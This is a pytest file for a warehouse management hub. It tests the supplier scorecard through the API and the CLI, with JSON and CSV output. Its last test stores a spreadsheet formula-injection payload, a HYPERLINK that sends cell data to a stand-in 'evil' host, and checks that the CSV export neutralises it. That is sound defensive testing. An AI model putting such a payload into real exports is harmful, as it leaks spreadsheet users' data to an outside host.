"""The scorecard from receipts synced by a terminal, over the API and the CLI."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from typer.testing import CliRunner

from tests.hub.conftest import Terminal
from tests.hub.supervisor_helpers import supervisor_headers
from wms.cli import app
from wms.seed.gtins import ean13
from wms.services.auth import logon_badge
from wms.services.receiving import Receive, receive

PO = "PO-2026-0001"  # Nordic Dairy AB, due 2026-11-23: SKU-00001 24, SKU-00301 12, SKU-01401 10


@pytest.fixture
def received(make_terminal: Callable[[], Terminal]) -> None:
    """On the due day: 24 formula with too little shelf life left, 8 + 2 damaged SKU-01401."""
    t = make_terminal()
    alice = logon_badge(t.ctx, "OP0001")
    short = Receive(
        ean13(1),
        24,
        PO,
        "DOCK-01",
        lot="L2699",
        expiry=date(2027, 3, 1),
        quarantine_short_life=True,
    )
    receive(t.ctx, alice, short)
    receive(t.ctx, alice, Receive(ean13(1401), 8, PO, "DOCK-01"))
    receive(t.ctx, alice, Receive(ean13(1401), 2, PO, "DOCK-01", damaged=True))
    t.client().sync()


# Nordic Dairy AB also has ASN-2026-0002 (48 × SKU-00002, due the same day, nothing arrived).
COUNTS = {
    "receipts": 2,
    "on_time": 1,
    "expected_units": 94,
    "filled_units": 34,
    "received_units": 34,
    "damaged_units": 2,
    "short_life_units": 24,
    "lines": 4,
    "exact_lines": 2,
    "skus_matching": 2,
}


@pytest.mark.usefixtures("received")
def test_the_scorecard_counts_what_the_terminal_received(
    hub: TestClient, hub_engine: Engine, hub_db: str
) -> None:
    reply = hub.get(
        "/v1/supervisor/scorecard",
        params={"period": "2026-11"},
        headers=supervisor_headers(hub_engine),
    )
    assert reply.status_code == 200, reply.text
    nordic = next(s for s in reply.json() if s["supplier"] == "Nordic Dairy AB")
    assert {k: nordic["counts"][k] for k in COUNTS} == COUNTS
    assert nordic["indicators"]["fill_rate"] == pytest.approx(100 * 34 / 94)
    assert nordic["indicators"]["shelf_life"] == pytest.approx(100 * 10 / 34)
    env = {"WMS_HUB_DATABASE_URL": hub_db}
    as_json = CliRunner().invoke(
        app, ["hub", "scorecard", "--period", "2026-11", "--json"], env=env
    )
    assert as_json.exit_code == 0, as_json.output
    lines = [json.loads(line) for line in as_json.output.splitlines()]
    assert next(s for s in lines if s["supplier"] == "Nordic Dairy AB")["score"] == pytest.approx(
        nordic["score"]
    )
    as_csv = CliRunner().invoke(app, ["hub", "scorecard", "--csv"], env=env)
    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert {r["supplier"] for r in rows} == {"Nordic Dairy AB", "Maison Beaute"}
    nordic_row = next(r for r in rows if r["supplier"] == "Nordic Dairy AB")
    assert nordic_row["n_receipts"] == "2"
    assert float(nordic_row["on_time"]) == pytest.approx(nordic["indicators"]["on_time"])
    assert nordic_row["n_on_time"] == "1"
    bad = CliRunner().invoke(app, ["hub", "scorecard", "--period", "2026-Q9"], env=env)
    assert bad.exit_code == 2


def test_the_csv_never_hands_a_spreadsheet_a_formula(hub_engine: Engine, hub_db: str) -> None:
    from wms.hub.documents import save

    evil = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    with hub_engine.begin() as conn:
        receipt = {"number": "PO-EVIL", "supplier": evil, "dock": "DOCK-01", "lines": []}
        save(conn, "DEMO", "receipt", receipt)
    env = {"WMS_HUB_DATABASE_URL": hub_db}
    as_csv = CliRunner().invoke(app, ["hub", "scorecard", "--csv"], env=env)
    assert as_csv.exit_code == 0, as_csv.output
    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert "'" + evil in {r["supplier"] for r in rows}
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
